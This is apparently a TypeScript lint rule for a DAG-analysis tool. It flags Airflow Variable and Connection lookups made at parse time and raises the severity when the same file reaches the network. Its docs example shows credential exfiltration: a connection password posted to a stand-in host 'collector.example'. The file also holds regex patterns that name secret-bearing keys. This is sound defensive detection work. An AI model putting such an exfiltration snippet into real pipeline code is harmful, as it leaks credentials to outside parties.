import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { callArgs, stringValue } from '../../src/engine/python';
import { classify, factsOf, type CallFact } from './_facts';
import type { RuleContext } from '../../src/engine/context';

const LOOKUPS = new Set([
  'airflow.models.Variable.get',
  'airflow.models.variable.Variable.get',
  'airflow.sdk.Variable.get',
  'airflow.hooks.base.BaseHook.get_connection',
  'airflow.hooks.base_hook.BaseHook.get_connection',
  'airflow.sdk.BaseHook.get_connection',
  'airflow.models.Connection.get_connection_from_secrets',
  'airflow.models.connection.Connection.get_connection_from_secrets',
  'airflow.sdk.Connection.get',
]);

export default defineRule({
  meta: {
    id: 'DG604',
    name: 'secret-lookup-at-parse-time',
    category: 'malicious',
    severity: 'info',
    message: '`{fn}` reads {what} while the DAG file is parsed{notes}',
    aliases: ['AIR003'],
    docs: {
      what:
        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). *info* on its own — reported, but below the default `fail-on = "low"`: it is a performance smell, like ruff\'s AIR003, and most such Variables hold configuration, not secrets — *low* (fails the default gate) when a Variable decides which DAGs the file builds (a module-level loop or comprehension takes its items from it, directly or through the name it is bound to: the metadata DB is queried on every parse to generate DAGs) or when the password of a looked-up Connection is used in the file (`.password`, `.get_password()`, `.get_uri()`, also through a default value: `def check(conn=BaseHook.get_connection("wh"))`) — *medium* when a constant key or connection id names a secret (`db_password`, `apiToken`, `SECRET_KEY`, `gcp_credentials`, `…_api_key`; not `s3_key_prefix`). One finding per file — at the first lookup whose key names a secret, else at the first lookup — with a count of the others. The message says "reads an Airflow Variable/Connection", not that it fetches a secret; high, at every lookup, when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
      why:
        'Each parse of the file (every `min_file_process_interval` seconds, in the dag-processor) performs a metadata-DB query or a secrets-backend call, and brings the decrypted secret into the parse process, where anything else at module level can read it. Combined with a parse-time network call it is exactly how a DAG leaks credentials without ever running a task.',
      example: '```python\nfrom airflow.hooks.base import BaseHook\nimport requests\n\nconn = BaseHook.get_connection("warehouse")\nrequests.post("https://collector.example", data=conn.password)\n```',
      useInstead:
        '```python\n# Jinja templates are rendered at run time, in the task\nBashOperator(task_id="load", bash_command="load --table {{ var.value.table }}",\n             env={"PGPASSWORD": "{{ conn.warehouse.password }}"})\n```',
    },
  },
  calls: [...LOOKUPS],
  onCall(call, _fn, ctx) {
    if (ctx.isParseTime(call)) ctx.ruleState((): CallFact[] => []).push(classify(call, ctx));
  },
  onFile(ctx) {
    const mine = ctx.ruleState((): CallFact[] => []);
    if (!mine.length) return;
    const facts = factsOf(ctx);
    const outbound = facts.calls.some((f) => (f.kinds.has('network') || f.kinds.has('spawn')) && f.parseTime);
    if (!outbound) {
      // On its own it is a smell: one finding per file keeps repositories readable; at the first lookup whose
      // key names a secret if there is one (medium), else at the first lookup (info: shown, never fails by default).
      let secretKey: string | null = null;
      const secret = mine.find((f) => namesSecret((secretKey = keyOf(f.call))));
      // a Connection whose password the file uses brings that password into the parse process; a Variable that
      // decides which DAGs the file builds is read from the metadata DB on every parse to do so: low (fails the
      // default gate), not a smell
      const weighty = secret ? undefined : mine.find((f) => (/Variable/.test(f.fn!) ? drivesFactory(f.call, ctx) : passwordUsed(f.call, ctx)));
      const at = secret ?? weighty ?? mine[0];
      const more = mine.length - 1;
      const notes = [
        ...(secret ? [`\`${secretKey}\` names a secret`] : []),
        ...(weighty ? [/Variable/.test(weighty.fn!) ? 'the DAGs or tasks this file builds are generated from it' : 'its password, used in this file, is brought into the parse process'] : []),
        ...(more ? [`and ${more} more parse-time lookup${more > 1 ? 's' : ''} in this file`] : []),
      ];
      ctx.report(at.call, { ...fieldsFor(at), notes: notes.length ? ` (${notes.join('; ')})` : '' }, {
        severity: secret ? 'medium' : weighty ? 'low' : 'info',
      });
      return;
    }
    for (const f of mine) {
      ctx.report(f.call, { ...fieldsFor(f), notes: ', and the file also reaches the network or starts a process at parse time' }, {
        severity: 'high',
      });
    }
  },
});

/** Words of a key that name a secret on their own. */
const SECRET_WORD = /^(pass|passwd|password|passphrase|pwd|pw|secret|secrets|token|tokens|cred|creds|credential|credentials|auth|apikey|jwt|bearer|pat|dsn|fernet|privatekey)$/;
/** `key` names a secret when it ends the name (`api_key`, `SECRET_KEY`, `ssh_key`) or follows one of these. */
const KEY_PREFIX = /^(api|access|private|secret|ssh|signing|encryption|master|client|service|account|sas)$/;

/**
 * Does a Variable key or connection id name a secret? `db_password`, `apiToken`, `SECRET_KEY`, `gcp-credentials`,
 * `slack_api_key_prod` — but not `tables`, `s3_key_prefix`, `monkeys`, `keyspace`.
 */
function namesSecret(name: string | null): boolean {
  if (!name) return false;
  const words = name
    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter(Boolean);
  return words.some(
    (w, i) => SECRET_WORD.test(w) || /^(pass(word)?|secret|token|cred)s?\d*$/.test(w) || (w === 'key' || w === 'keys') && (i === words.length - 1 || (i > 0 && KEY_PREFIX.test(words[i - 1]))),
  );
}

/**
 * Does a module-level loop take its items from this lookup — as its iterable, or through the name the lookup is bound
 * to (`for tenant in Variable.get("tenants", deserialize_json=True): globals()[…] = make_dag(tenant)`)?
 */
function drivesFactory(call: SyntaxNode, ctx: RuleContext): boolean {
  for (let n: SyntaxNode | null = call, child: SyntaxNode = call; n; child = n, n = n.parent) {
    if ((n.type === 'for_statement' || n.type === 'for_in_clause') && n.childForFieldName('right')?.id === child.id) return true;
    if (n.type === 'function_definition' || n.type === 'class_definition' || n.type === 'lambda') return false;
    if (n.type === 'assignment' && n.childForFieldName('right')?.id === child.id) {
      const name = n.childForFieldName('left');
      if (name?.type !== 'identifier') return false;
      // also a loop inside `with DAG(…):`, which generates the DAG's tasks from it
      return new RegExp(`^[ \\t]*for\\s[^\\n]*\\bin\\s+${name.text}\\b`, 'm').test(ctx.file.text);
    }
  }
  return false;
}

/** Is the password of the Connection this lookup returns used: `.password`, `.get_password()`, `.get_uri()` on it or on the name it is bound to (an assignment or a default value)? */
function passwordUsed(call: SyntaxNode, ctx: RuleContext): boolean {
  const SECRET_FIELD = '\\.\\s*(?:password\\b|get_password\\s*\\(|get_uri\\s*\\()';
  if (new RegExp(`^${SECRET_FIELD}`).test(ctx.file.text.slice(call.endIndex))) return true;
  const p = call.parent;
  const name = p?.type === 'assignment' && p.childForFieldName('right')?.id === call.id ? p.childForFieldName('left')
    : p?.type === 'default_parameter' || p?.type === 'typed_default_parameter' ? p.childForFieldName('name') : null;
  return name?.type === 'identifier' && new RegExp(`(?<![\\w.])${name.text}${SECRET_FIELD}`).test(ctx.file.text);
}

function keyOf(call: SyntaxNode): string | null {
  const a = callArgs(call);
  return stringValue(a.positional[0] ?? a.keywords.get('key') ?? a.keywords.get('conn_id'));
}

function fieldsFor(f: CallFact): { fn: string; what: string } {
  const fn = f.fn!;
  return { fn: fn.split('.').slice(-2).join('.'), what: /Variable/.test(fn) ? 'an Airflow Variable' : 'an Airflow Connection' };
}
